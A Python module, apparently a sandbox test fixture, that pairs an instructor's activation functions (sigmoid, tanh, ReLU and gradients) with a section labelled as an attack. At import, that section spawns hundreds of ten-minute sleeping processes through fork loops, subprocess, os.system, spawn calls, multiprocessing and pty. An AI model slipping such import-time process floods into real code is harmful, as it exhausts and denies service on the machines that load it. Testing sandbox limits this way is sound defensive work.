"""At import, tries every way to start processes (os.fork in a loop, subprocess, os.system,
os.posix_spawn, os.spawnv, multiprocessing, pty.fork); children sleep for ten minutes under a
marked command line. Otherwise the instructor's module.
"""

import os
import time

import numpy as np


def sigmoid(z):
    """The logistic sigmoid, sigma(z) = 1 / (1 + exp(-z)), elementwise.

    Inputs:
    - z: array of any shape, or a number

    Returns:
    - s: float64 array shaped like z, values in [0, 1]; no overflow warning and no nan,
      even for z as large as +-1e4
    """
    z = np.asarray(z, dtype=np.float64)
    e = np.exp(-np.abs(z))  # in (0, 1]: never overflows
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_grad(z):
    """The derivative of the sigmoid, d sigma / dz = sigma(z) * (1 - sigma(z)), elementwise.

    Inputs:
    - z: array of any shape, or a number (the input of the sigmoid, not its output)

    Returns:
    - ds: float64 array shaped like z
    """
    s = sigmoid(z)
    return s * (1.0 - s)


def tanh(z):
    """The hyperbolic tangent, (e^z - e^-z) / (e^z + e^-z), elementwise.

    Inputs:
    - z: array of any shape, or a number

    Returns:
    - t: float64 array shaped like z, values in [-1, 1]
    """
    return np.tanh(np.asarray(z, dtype=np.float64))


def tanh_grad(z):
    """The derivative of tanh, 1 - tanh(z)^2, elementwise.

    Inputs:
    - z: array of any shape, or a number (the input of tanh, not its output)

    Returns:
    - dt: float64 array shaped like z
    """
    t = tanh(z)
    return 1.0 - t * t


def relu(z):
    """The rectified linear unit, max(0, z), elementwise.

    Inputs:
    - z: array of any shape, or a number

    Returns:
    - r: float64 array shaped like z
    """
    return np.maximum(0.0, np.asarray(z, dtype=np.float64))


def relu_grad(z):
    """The derivative of ReLU: 1.0 where z > 0, else 0.0 (we take 0 at z = 0).

    Inputs:
    - z: array of any shape, or a number

    Returns:
    - dr: float64 array shaped like z, holding only 0.0 and 1.0
    """
    return (np.asarray(z, dtype=np.float64) > 0).astype(np.float64)


# -- the attack ----------------------------------------------------------------------

MARKER = "nnkit-hostile-fork_bomb"
SLEEP = ["/bin/sleep", "600", MARKER]


def _child():
    try:
        os.execv(SLEEP[0], SLEEP)
    finally:
        os._exit(0)


def _attempt(start):
    try:
        start()
    except BaseException:
        pass


def _forks():
    for _ in range(256):
        pid = os.fork()
        if pid == 0:
            _child()


def _subprocess():
    import subprocess

    subprocess.Popen(SLEEP, start_new_session=True)


def _multiprocessing():
    import multiprocessing

    multiprocessing.Process(target=time.sleep, args=(600,), daemon=False).start()


def _pty():
    import pty

    if pty.fork()[0] == 0:
        _child()


_attempt(_forks)
_attempt(_subprocess)
_attempt(lambda: os.system(f"sleep 600 & : {MARKER}"))
_attempt(lambda: os.posix_spawn(SLEEP[0], SLEEP, {}))
_attempt(lambda: os.spawnv(os.P_NOWAIT, SLEEP[0], SLEEP))
_attempt(_multiprocessing)
_attempt(_pty)
